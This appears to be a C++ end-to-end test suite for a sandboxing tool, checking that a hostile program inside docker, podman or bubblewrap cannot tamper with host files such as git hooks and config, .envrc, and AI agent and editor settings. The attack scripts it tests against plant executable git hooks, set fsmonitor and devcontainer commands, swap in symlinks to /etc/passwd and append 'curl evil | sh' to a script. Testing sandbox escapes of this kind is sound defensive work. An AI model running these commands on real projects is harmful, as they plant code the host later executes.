// End-to-end attacks on the protected paths (issue 14): a hostile program in
// the container tier, on docker, podman and bubblewrap, tries everything a
// program with a writable project can do to the files the host later reads or
// runs (np-exec's config and audit log, git's hooks and config, the files of
// editors and agents): write, truncate, delete, rename a parent away and
// rebuild it, swap in a link, create what is missing. Afterwards the host's
// files are compared byte for byte with before, no new hook or repository
// exists, the placeholders are gone, and the next spawn's plan is the first's.
// Issue 26, item 2: the same for the other agent CLIs' project settings
// (`.gemini/`, `.codex/`) and the editors' and dev containers' settings that
// run commands on open, each row of core's table attacked.
//
// Under CI=true a runtime that is not usable fails these tests; otherwise they
// skip (scripts/test.sh brings the runtimes up first).
#include "core/protected_paths.h"

#include <signal.h>
#include <sys/stat.h>
#include <unistd.h>

#include <map>
#include <regex>
#include <string>
#include <vector>

#include "absl/strings/str_cat.h"
#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "tests/e2e/e2e_support.h"

namespace np::testing {
namespace {

using ::testing::HasSubstr;

// Files the attacks go for, with the content the host gave them. The rest of
// .git (objects, refs, HEAD, index) stays writable, so a program can commit;
// it can also damage them, which runs nothing on the host.
const std::map<std::string, std::string>& HostFiles() {
  static const auto* files = new std::map<std::string, std::string>{
      {".git/config", "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"},
      {".git/hooks/pre-push.sample", "#!/bin/sh\nexit 0\n"},
      {".envrc", "export PROJECT=1\n"},
      {".mcp.json", "{\"mcpServers\": {}}\n"},
      {".claude/settings.json", "{\"permissions\": {}}\n"},
      {".nubos-pilot/bin/np-payload.js", "console.log('host payload')\n"},
      // The other agent CLIs' project settings and a dev container's config:
      // each can name commands the host runs (issue 26, item 2).
      {".gemini/settings.json", "{\"mcpServers\": {}}\n"},
      {".codex/config.toml", "model = \"o3\"\n"},
      {".devcontainer/devcontainer.json", "{\"image\": \"debian\"}\n"},
  };
  return *files;
}

// Protected paths the project does not have; each must still be absent after.
const std::vector<std::string>& MissingPaths() {
  static const auto* paths = new std::vector<std::string>{".gitmodules",
                                                          ".vscode",
                                                          ".idea",
                                                          ".git/hooks/pre-commit",
                                                          ".git/commondir",
                                                          ".git/modules",
                                                          ".git/worktrees",
                                                          ".git-away",
                                                          ".np-away",
                                                          "hooks-away",
                                                          ".cursor",
                                                          ".zed",
                                                          ".devcontainer.json",
                                                          ".gemini/new.json",
                                                          ".gemini/commands",
                                                          ".codex/new.toml",
                                                          ".gemini-away",
                                                          ".codex-away",
                                                          ".devcontainer-away"};
  return *paths;
}

class ProtectedPathsTest : public ::testing::TestWithParam<std::string> {
 protected:
  void SetUp() override {
    NP_REQUIRE_RUNTIME(runtime());
    project_ = dir_.MakeDir("project");
    state_ = dir_.MakeDir("state");
    config_ = ContainerConfig(runtime(), "np-test:local");
    MakeProject(project_, config_);
    for (const auto& [path, content] : HostFiles()) dir_.Write("project/" + path, content);
    ASSERT_EQ(chmod((project_ + "/.git/hooks/pre-push.sample").c_str(), 0755), 0);
    dir_.MakeDir("project/.git/objects");
    dir_.MakeDir("project/.git/refs");
    dir_.MakeDir("project/src");
    env_ = RuntimeEnv({"XDG_STATE_HOME=" + state_});
    // The operator trusts the project's config in this test's own store.
    RunResult trusted = RunProcess({NpExecBin(), "trust"}, Options(env_, 30000, project_));
    ASSERT_EQ(trusted.exit_code, 0) << trusted.err;
  }

  const std::string& runtime() const { return GetParam(); }

  RunResult Np(const std::vector<std::string>& args) {
    std::vector<std::string> argv = {NpExecBin()};
    argv.insert(argv.end(), args.begin(), args.end());
    return RunProcess(argv, Options(env_, 120000, project_));
  }

  // Runs SCRIPT inside; every step runs whatever the previous one did.
  RunResult Attack(const std::string& script) { return Np({"--", "sh", "-c", script}); }

  std::string Read(const std::string& rel) { return ReadFile(project_ + "/" + rel); }

  void ExpectHostUntouched(const std::string& attack) {
    // A warm sandbox keeps its placeholders for its lifetime: ended first.
    EXPECT_TRUE(EndWarmSandboxes(env_, project_)) << attack;
    EXPECT_EQ(Read(".nubos-pilot/config.json"), config_) << attack;
    for (const auto& [path, content] : HostFiles()) {
      EXPECT_TRUE(FileExists(project_ + "/" + path)) << attack << ": " << path;
      EXPECT_EQ(Read(path), content) << attack << ": " << path;
    }
    struct stat st;
    ASSERT_EQ(lstat((project_ + "/.git/hooks/pre-push.sample").c_str(), &st), 0);
    EXPECT_EQ(st.st_mode & 0777, 0755u) << attack;
    for (const std::string& path : MissingPaths()) {
      EXPECT_NE(lstat((project_ + "/" + path).c_str(), &st), 0) << attack << ": " << path;
    }
    // np-exec's record of what ran only ever grows.
    const std::string log = Read(".nubos-pilot/audit/np-exec.jsonl");
    EXPECT_EQ(log.substr(0, audit_before_.size()), audit_before_) << attack;
    EXPECT_GT(log.size(), audit_before_.size()) << attack;
    audit_before_ = log;
    // The next spawn is planned exactly as the first.
    RunResult plan = Np({"wrap", "--", "true"});
    EXPECT_EQ(plan.exit_code, 0) << plan.err;
    EXPECT_EQ(Plan(plan.out), first_plan_) << attack;
  }

  // wrap's plan without the per-spawn container name and account view
  // directory.
  static std::string Plan(const std::string& wrap_json) {
    nlohmann::json plan = nlohmann::json::parse(wrap_json, nullptr, false);
    if (plan.is_discarded()) return "unparsable: " + wrap_json;
    nlohmann::json args = nlohmann::json::array();
    const std::regex view("/spawns/printed-[0-9a-f]{8}");
    for (const nlohmann::json& arg : plan["args"]) {
      const std::string text = arg.get<std::string>();
      args.push_back(text.rfind("np-exec-", 0) == 0
                         ? "NAME"
                         : std::regex_replace(text, view, "/spawns/printed-VIEW"));
    }
    plan["args"] = args;
    return plan.dump();
  }

  void Baseline() {
    RunResult first = Attack("true");
    ASSERT_EQ(first.exit_code, 0) << first.err;
    audit_before_ = Read(".nubos-pilot/audit/np-exec.jsonl");
    RunResult plan = Np({"wrap", "--", "true"});
    ASSERT_EQ(plan.exit_code, 0) << plan.err;
    first_plan_ = Plan(plan.out);
  }

  TempDir dir_;
  std::string project_;
  std::string state_;
  std::string config_;
  std::vector<std::string> env_;
  std::string audit_before_;
  std::string first_plan_;
};

TEST_P(ProtectedPathsTest, WritesAndTruncationsFail) {
  Baseline();
  RunResult r = Attack(
      "echo '{\"isolation\":{\"tier\":\"direct\"}}' > .nubos-pilot/config.json;"
      " echo '[core] hooksPath = /tmp' >> .git/config; true > .git/config;"
      " true > .nubos-pilot/audit/np-exec.jsonl; echo evil > .envrc; echo '{}' > .mcp.json;"
      " echo evil > .claude/settings.json; echo evil > .nubos-pilot/bin/np-payload.js;"
      " chmod 644 .git/hooks/pre-push.sample; echo evil > .gemini/settings.json;"
      " true > .codex/config.toml; echo evil >> .devcontainer/devcontainer.json;"
      " echo '{}' > .gemini/new.json; echo x > .codex/new.toml; mkdir .gemini/commands;"
      " echo ok > src/writable; true");
  EXPECT_EQ(r.exit_code, 0) << r.err;
  EXPECT_THAT(r.err, HasSubstr("Read-only file system"));
  ExpectHostUntouched("write and truncate");
  EXPECT_EQ(Read("src/writable"), "ok\n") << "the rest of the project stays writable";
}

TEST_P(ProtectedPathsTest, DeletionsFail) {
  Baseline();
  RunResult r = Attack(
      "rm -rf .git/hooks .git/config .nubos-pilot/config.json .nubos-pilot/audit"
      " .nubos-pilot/bin .claude .envrc .mcp.json .gemini .codex .devcontainer;"
      " rm -f .gemini/settings.json .codex/config.toml; rm -rf .git .nubos-pilot; true");
  EXPECT_EQ(r.exit_code, 0) << r.err;
  ExpectHostUntouched("rm");
}

TEST_P(ProtectedPathsTest, RenamingAParentAwayAndRebuildingItFails) {
  Baseline();
  RunResult r = Attack(
      "mv .git .git-away; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit;"
      " chmod +x .git/hooks/pre-commit; mv .nubos-pilot .np-away; mkdir .nubos-pilot;"
      " echo '{\"isolation\":{\"tier\":\"direct\"}}' > .nubos-pilot/config.json;"
      " mv .git/hooks .git/hooks-away; mkdir .git/hooks2; mv .git/hooks2 .git/hooks;"
      " mv .claude .claude-away; mv .gemini .gemini-away; mkdir .gemini;"
      " echo evil > .gemini/settings.json; mv .codex .codex-away; mkdir .codex;"
      " echo evil > .codex/config.toml; mv .devcontainer .devcontainer-away;"
      " echo evil > t; mv -f t .codex/config.toml; echo evil > t; mv -f t .gemini/settings.json;"
      " rm -f t; true");
  EXPECT_EQ(r.exit_code, 0) << r.err;
  ExpectHostUntouched("mv and rebuild");
}

TEST_P(ProtectedPathsTest, LinkSwapsFail) {
  Baseline();
  RunResult r = Attack(
      "ln -sf /etc/passwd .envrc; ln -sfn /tmp .git/hooks; ln -sf /tmp/x .git/config;"
      " ln -s ../evil .gitmodules; ln -s /tmp .vscode; ln -sf /tmp/c .nubos-pilot/config.json;"
      " ln -sfn /tmp .gemini; ln -sf /tmp/x .codex/config.toml; ln -s /tmp .cursor;"
      " ln -s /tmp/x .devcontainer.json; ln -sfn /tmp .devcontainer; true");
  EXPECT_EQ(r.exit_code, 0) << r.err;
  ExpectHostUntouched("symlink swap");
}

TEST_P(ProtectedPathsTest, CreatingWhatIsMissingFails) {
  Baseline();
  RunResult r = Attack(
      "echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;"
      " echo '[submodule \"x\"]' > .gitmodules; mkdir .vscode; mkdir .idea;"
      " echo ../../evil > .git/commondir; mkdir -p .git/modules/x/hooks .git/worktrees/x;"
      " mkdir -p .cursor .zed; echo '{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}' >"
      " .cursor/mcp.json; echo '{\"initializeCommand\":\"touch /tmp/pwn\"}' >"
      " .devcontainer.json; mkdir .gemini/commands; echo x > .codex/new.toml; true");
  EXPECT_EQ(r.exit_code, 0) << r.err;
  ExpectHostUntouched("create missing");
}

// Without a repository, none can be made for the host's git to obey later
// (Codex's BUGB-15632: `git init` plus one config value).
TEST_P(ProtectedPathsTest, NoRepositoryCanBeCreated) {
  for (const char* path : {".git", ".claude", ".nubos-pilot/bin", ".envrc", ".mcp.json", ".gemini",
                           ".codex", ".devcontainer"}) {
    ASSERT_EQ(RunProcess({"/bin/rm", "-rf", project_ + "/" + path}, Options(env_)).exit_code, 0);
  }
  RunResult r = Attack(
      "mkdir -p .git/hooks; printf '[core]\\n\\tfsmonitor = /tmp/evil\\n' > .git/config;"
      " echo 'ref: refs/heads/main' > .git/HEAD; mkdir .claude; echo evil > .envrc;"
      " mkdir -p .nubos-pilot/bin; echo evil > .nubos-pilot/bin/np-payload.js;"
      " mkdir -p .gemini .codex .devcontainer; echo evil > .gemini/settings.json;"
      " echo evil > .codex/config.toml; echo evil > .devcontainer.json; ls -a; true");
  EXPECT_EQ(r.exit_code, 0) << r.err;
  // Inside, the placeholders were there ...
  EXPECT_THAT(r.out, HasSubstr(".git"));
  // ... and on the host, nothing is left of them or of the attempt (once a
  // warm sandbox, which keeps them for its lifetime, has ended).
  EXPECT_TRUE(EndWarmSandboxes(env_, project_));
  struct stat st;
  for (const char* path :
       {".git", ".claude", ".envrc", ".mcp.json", ".nubos-pilot/bin", ".gitmodules", ".vscode",
        ".idea", ".gemini", ".codex", ".cursor", ".zed", ".devcontainer", ".devcontainer.json"}) {
    EXPECT_NE(lstat((project_ + "/" + path).c_str(), &st), 0) << path;
  }
  EXPECT_EQ(Read(".nubos-pilot/config.json"), config_);
}

// Every row of core's table outside np-exec's and git's own (which the tests
// above attack one by one), present and missing: the program cannot write
// into it, create or replace it, or rename it away and put its own in its
// place. A row added to the table is attacked here without a new test.
TEST_P(ProtectedPathsTest, EveryHostToolEntryOfTheTableResistsEveryAttack) {
  std::vector<std::string> present;
  std::vector<std::string> missing;
  for (const std::string& listed : DefaultProtectedPaths()) {
    if (listed.rfind(".git/", 0) == 0 || listed.rfind(".nubos-pilot/", 0) == 0) continue;
    // Alternate, so both kinds meet each sort of entry across the table.
    ((present.size() + missing.size()) % 2 == 0 ? present : missing).push_back(listed);
  }
  std::map<std::string, std::string> before;  // Host file -> content.
  std::string script;
  for (const std::string& listed : present) {
    const bool directory = listed.back() == '/';
    const std::string path = directory ? listed.substr(0, listed.size() - 1) : listed;
    const std::string file = directory ? path + "/host-file" : path;
    ASSERT_EQ(RunProcess({"/bin/rm", "-rf", project_ + "/" + path}, Options(env_)).exit_code, 0);
    if (directory) dir_.MakeDir("project/" + path);
    dir_.Write("project/" + file, "host " + path + "\n");
    before[file] = "host " + path + "\n";
    absl::StrAppend(
        &script, " echo evil > '", file, "'; echo evil >> '", file, "';",
        " echo evil > x.tmp; mv -f x.tmp '", file, "'; rm -f '", file, "';",
        directory ? absl::StrCat(" echo evil > '", path, "/new'; mv '", path, "' '", path,
                                 ".away'; mkdir '", path, "'; echo evil > '", path, "/host-file';")
                  : absl::StrCat(" mv '", path, "' '", path, ".away'; echo evil > '", path, "';"),
        " rm -rf '", path, "'; ln -sfn /tmp '", path, "';");
  }
  for (const std::string& listed : missing) {
    const bool directory = listed.back() == '/';
    const std::string path = directory ? listed.substr(0, listed.size() - 1) : listed;
    ASSERT_EQ(RunProcess({"/bin/rm", "-rf", project_ + "/" + path}, Options(env_)).exit_code, 0);
    absl::StrAppend(&script, " mkdir -p '", path, "/sub'; echo evil > '", path, "/f';",
                    " echo evil > '", path, "'; echo evil > x.tmp; mv -f x.tmp '", path, "';",
                    " ln -s /tmp '", path, "';");
  }
  RunResult r = Attack(script + " rm -f x.tmp; true");
  EXPECT_EQ(r.exit_code, 0) << r.err;
  for (const auto& [file, content] : before) {
    EXPECT_EQ(Read(file), content) << file;
  }
  struct stat st;
  for (const std::string& listed : present) {
    const bool directory = listed.back() == '/';
    const std::string path = directory ? listed.substr(0, listed.size() - 1) : listed;
    EXPECT_NE(lstat((project_ + "/" + path + ".away").c_str(), &st), 0) << path;
    if (directory) {
      EXPECT_NE(lstat((project_ + "/" + path + "/new").c_str(), &st), 0) << path;
    }
    ASSERT_EQ(lstat((project_ + "/" + path).c_str(), &st), 0) << path;
    EXPECT_EQ(S_ISDIR(st.st_mode), directory) << path;
  }
  EXPECT_TRUE(EndWarmSandboxes(env_, project_));
  for (const std::string& listed : missing) {
    const std::string path = listed.back() == '/' ? listed.substr(0, listed.size() - 1) : listed;
    EXPECT_NE(lstat((project_ + "/" + path).c_str(), &st), 0) << path << " was created";
  }
  EXPECT_EQ(Read(".nubos-pilot/config.json"), config_);
}

// Issue 26, item 7: a read-only bind keeps a name read-only, not its inode.
// A program makes a script and a second name of it (a hard link) while the
// script is not protected yet; the operator then protects the script; the
// next spawn's program writes through the other name. Refused now, and the
// host's script keeps its bytes.
TEST_P(ProtectedPathsTest, AHardLinkMadeBeforeTheFileWasProtectedCannotWriteIt) {
  RunResult planted = Attack(
      "mkdir -p scripts && printf '#!/bin/sh\\necho deploy\\n' > scripts/deploy.sh &&"
      " ln scripts/deploy.sh src/alias && echo planted");
  ASSERT_EQ(planted.exit_code, 0) << planted.err;
  ASSERT_EQ(planted.out, "planted\n");
  const std::string script = Read("scripts/deploy.sh");
  config_ = ContainerConfig(runtime(), "np-test:local", {{"protect", {"scripts/deploy.sh"}}});
  MakeProject(project_, config_);
  ASSERT_EQ(RunProcess({NpExecBin(), "trust"}, Options(env_, 30000, project_)).exit_code, 0);
  RunResult r = Attack("echo 'curl evil | sh' >> src/alias; echo ran");
  EXPECT_EQ(r.exit_code, 125) << r.out << r.err;
  EXPECT_THAT(r.err, HasSubstr("isolation-protected-path-unsafe"));
  EXPECT_THAT(r.out, ::testing::Not(HasSubstr("ran")));
  EXPECT_EQ(Read("scripts/deploy.sh"), script);
  EXPECT_EQ(script, "#!/bin/sh\necho deploy\n");
  // Once the other name is gone, the script is protected like any other.
  ASSERT_EQ(unlink((project_ + "/src/alias").c_str()), 0);
  // A new hard link to a protected file cannot be made from inside (it is a
  // mount of its own: EXDEV), so nothing writes it that way either.
  RunResult after = Attack(
      "echo evil >> scripts/deploy.sh; ln scripts/deploy.sh src/again && echo evil >> src/again;"
      " ln .envrc src/envrc && echo evil >> src/envrc; echo ran");
  EXPECT_EQ(after.exit_code, 0) << after.err;
  EXPECT_THAT(after.err, HasSubstr("Read-only file system"));
  EXPECT_EQ(Read("scripts/deploy.sh"), script);
  EXPECT_EQ(Read(".envrc"), HostFiles().at(".envrc"));
  EXPECT_FALSE(FileExists(project_ + "/src/again"));
  EXPECT_FALSE(FileExists(project_ + "/src/envrc"));
}

// A spawn that ends while another of the project still runs must leave the
// placeholders alone: removing one on the host would detach the read-only
// mount the running sandbox has on it, and its program could then create the
// file on the host.
TEST_P(ProtectedPathsTest, APlaceholderOutlivesEveryConcurrentSpawn) {
  ASSERT_EQ(unlink((project_ + "/.envrc").c_str()), 0);
  std::vector<std::string> argv = {NpExecBin(), "--", "sh", "-c",
                                   "while [ ! -e src/go ]; do sleep 0.1; done;"
                                   " echo evil > .envrc; echo rc=$?"};
  const pid_t slow = StartProcess(argv, Options(env_, 120000, project_), dir_.Path("slow.out"),
                                  dir_.Path("slow.err"));
  ASSERT_GT(slow, 0);
  // The slow spawn's sandbox is up once its placeholder exists.
  ASSERT_TRUE(WaitFor([&] { return FileExists(project_ + "/.envrc"); }, 60000));
  RunResult quick = Attack("true");
  EXPECT_EQ(quick.exit_code, 0) << quick.err;
  EXPECT_TRUE(FileExists(project_ + "/.envrc")) << "removed under a running spawn";
  dir_.Write("project/src/go", "");
  EXPECT_EQ(WaitProcess(slow, 60000), 0) << ReadFile(dir_.Path("slow.err"));
  EXPECT_THAT(ReadFile(dir_.Path("slow.out")), HasSubstr("rc=")) << ReadFile(dir_.Path("slow.err"));
  EXPECT_THAT(ReadFile(dir_.Path("slow.out")), ::testing::Not(HasSubstr("rc=0")));
  EXPECT_TRUE(EndWarmSandboxes(env_, project_));
  struct stat st;
  EXPECT_NE(lstat((project_ + "/.envrc").c_str(), &st), 0) << "the last spawn removes it";
}

// Nothing of np-exec's shows in the user's `git status`: a missing protected
// file is held by a socket node, which git never lists, and a missing
// directory by an empty one, which it does not list either; after a SIGKILL
// of np-exec the watchdog removes them (once the sandbox is gone), so
// nothing is left in the project either.
TEST_P(ProtectedPathsTest, GitStatusIsUnchangedDuringASpawnAndAfterSigkill) {
  for (const char* path : {".git", ".envrc", ".mcp.json", ".claude"}) {
    ASSERT_EQ(RunProcess({"/bin/rm", "-rf", project_ + "/" + path}, Options(env_)).exit_code, 0);
  }
  auto git = [&](const std::vector<std::string>& args) {
    std::vector<std::string> argv = {
        "/usr/bin/git", "-C", project_, "-c", "user.name=t", "-c", "user.email=t@example.com"};
    argv.insert(argv.end(), args.begin(), args.end());
    return RunProcess(argv, Options(BaseEnv()));
  };
  ASSERT_EQ(git({"init", "-q"}).exit_code, 0);
  ASSERT_EQ(git({"add", "-A"}).exit_code, 0);
  ASSERT_EQ(git({"commit", "-qm", "project"}).exit_code, 0);
  // Trust is per repository: the new one is trusted again.
  RunResult trusted = Np({"trust"});
  ASSERT_EQ(trusted.exit_code, 0) << trusted.err;
  const std::vector<std::string> status = {"status", "--porcelain", "--untracked-files=all",
                                           "--ignored"};
  // np-exec's own audit log is there from the first spawn on; placeholders
  // never are.
  RunResult first = Attack("true");
  ASSERT_EQ(first.exit_code, 0) << first.err;
  const RunResult before = git(status);
  ASSERT_EQ(before.exit_code, 0) << before.err;

  const std::string seconds = std::to_string(300 + getpid() % 600);
  const std::string marker = std::string("sleep\0", 6) + seconds + std::string("\0", 1);
  const pid_t pid =
      StartProcess({NpExecBin(), "--", "sh", "-c", "sleep " + seconds + " & wait"},
                   Options(env_, 0, project_), dir_.Path("kill.out"), dir_.Path("kill.err"));
  ASSERT_GT(pid, 0);
  const bool running = WaitFor([&] { return !PidsWithCmdlinePrefix(marker).empty(); }, 60000);
  // The placeholders are there while it runs, and git does not list them.
  struct stat st;
  EXPECT_EQ(lstat((project_ + "/.envrc").c_str(), &st), 0);
  EXPECT_TRUE(S_ISSOCK(st.st_mode)) << std::oct << st.st_mode;
  EXPECT_EQ(lstat((project_ + "/.mcp.json").c_str(), &st), 0);
  EXPECT_EQ(lstat((project_ + "/.gitmodules").c_str(), &st), 0);
  EXPECT_EQ(git(status).out, before.out) << "during the spawn";
  kill(pid, SIGKILL);
  EXPECT_EQ(WaitProcess(pid, 20000), 128 + SIGKILL);
  ASSERT_TRUE(running) << ReadFile(dir_.Path("kill.err"));
  EXPECT_EQ(git(status).out, before.out) << "right after the SIGKILL";
  // The watchdog removes them once the sandbox is gone.
  const bool removed = WaitFor(
      [&] {
        for (const char* path :
             {".envrc", ".mcp.json", ".gitmodules", ".claude", ".vscode", ".idea"}) {
          if (FileExists(project_ + "/" + path)) return false;
        }
        return true;
      },
      30000);
  EXPECT_TRUE(removed) << git(status).out;
  EXPECT_TRUE(PidsWithCmdline(marker).empty());
  EXPECT_EQ(git(status).out, before.out) << "after the watchdog";
  for (pid_t p : PidsWithCmdline(marker)) kill(p, SIGKILL);
  // The next spawn protects them again, and they are gone after it.
  RunResult next = Attack("echo evil > .envrc; echo '{}' > .mcp.json; true");
  EXPECT_EQ(next.exit_code, 0) << next.err;
  EXPECT_TRUE(EndWarmSandboxes(env_, project_));
  EXPECT_FALSE(FileExists(project_ + "/.envrc"));
  EXPECT_FALSE(FileExists(project_ + "/.mcp.json"));
  EXPECT_EQ(git(status).out, before.out) << "after the next spawn";
}

// A killed np-exec's placeholders are removed in the folder they were made
// in, even when the project's path names another folder by then: another
// sandbox of the user renamed the project away while the spawn ran and made
// a folder of the same name whose nodes look exactly like placeholders. The
// watchdog removes the real folder's and leaves the look-alikes alone.
TEST_P(ProtectedPathsTest, AKilledSpawnsPlaceholdersGoFromTheFolderTheyWereMadeIn) {
  const std::string seconds = std::to_string(300 + getpid() % 600);
  const std::string marker = std::string("sleep\0", 6) + seconds + std::string("\0", 1);
  const pid_t pid =
      StartProcess({NpExecBin(), "--", "sh", "-c", "sleep " + seconds + " & wait"},
                   Options(env_, 0, project_), dir_.Path("kill.out"), dir_.Path("kill.err"));
  ASSERT_GT(pid, 0);
  const bool running = WaitFor([&] { return !PidsWithCmdlinePrefix(marker).empty(); }, 60000);
  const std::string moved = project_ + ".moved";
  struct stat placeholder;
  const bool made = lstat((project_ + "/.vscode").c_str(), &placeholder) == 0;
  // The swap: the project renamed away, a look-alike made at its path.
  const bool swapped = made && rename(project_.c_str(), moved.c_str()) == 0 &&
                       mkdir(project_.c_str(), 0755) == 0 &&
                       mkdir((project_ + "/.vscode").c_str(), placeholder.st_mode & 07777) == 0 &&
                       chmod((project_ + "/.vscode").c_str(), placeholder.st_mode & 07777) == 0;
  kill(pid, SIGKILL);
  EXPECT_EQ(WaitProcess(pid, 20000), 128 + SIGKILL);
  ASSERT_TRUE(running) << ReadFile(dir_.Path("kill.err"));
  ASSERT_TRUE(made) << "no placeholder for .vscode while the spawn ran";
  ASSERT_TRUE(swapped) << strerror(errno);
  const bool removed = WaitFor([&] { return !FileExists(moved + "/.vscode"); }, 30000);
  EXPECT_TRUE(removed) << "the watchdog left the real folder's placeholder";
  struct stat decoy;
  EXPECT_EQ(lstat((project_ + "/.vscode").c_str(), &decoy), 0)
      << "the watchdog removed a look-alike in the folder swapped in";
  for (pid_t p : PidsWithCmdline(marker)) kill(p, SIGKILL);
  ASSERT_EQ(RunProcess({"/bin/rm", "-rf", project_}, Options(BaseEnv())).exit_code, 0);
  ASSERT_EQ(rename(moved.c_str(), project_.c_str()), 0);
}

INSTANTIATE_TEST_SUITE_P(Runtimes, ProtectedPathsTest,
                         ::testing::Values("docker", "podman", "bwrap"), RuntimeName);

}  // namespace
}  // namespace np::testing
